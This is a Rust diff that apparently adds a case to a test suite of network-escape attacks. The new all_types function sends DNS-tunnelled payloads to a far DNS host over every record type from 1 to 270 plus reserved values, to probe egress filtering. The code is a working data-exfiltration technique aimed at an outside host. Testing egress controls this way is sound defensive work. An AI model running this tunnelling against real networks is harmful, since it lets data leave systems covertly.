@@ -25,6 +25,7 @@ pub const ATTACKS: &[Attack] = &[
     arrive("dns-any", "DNS: ANY", |scene| {
         udp(scene, far(FAR_V4, DNS), ANY)
     }),
+    arrive("dns-types", "DNS: all other types there are", all_types),
     arrive("dns6", "DNS over IPv6", |scene| {
         udp(scene, far(FAR_V6, DNS), TXT)
     }),
@@ -75,6 +76,15 @@ fn tunnel(scene: &Scene, kind: u16) -> Vec<u8> {
 
 fn udp(scene: &Scene, to: SocketAddr, kind: u16) -> io::Result<()> {
     ask(to, &tunnel(scene, kind))
+}
+
+/// Those that were ever assigned, and some that were not. Sent at once: whether there are answers does not matter.
+fn all_types(scene: &Scene) -> io::Result<()> {
+    let socket = UdpSocket::bind("0.0.0.0:0")?;
+    for kind in (1..=270).chain([32768, 32769, 65280, 65534]) {
+        socket.send_to(&tunnel(scene, kind), far(FAR_V4, DNS))?;
+    }
+    Ok(())
 }
 
 fn ask(to: SocketAddr, query: &[u8]) -> io::Result<()> {
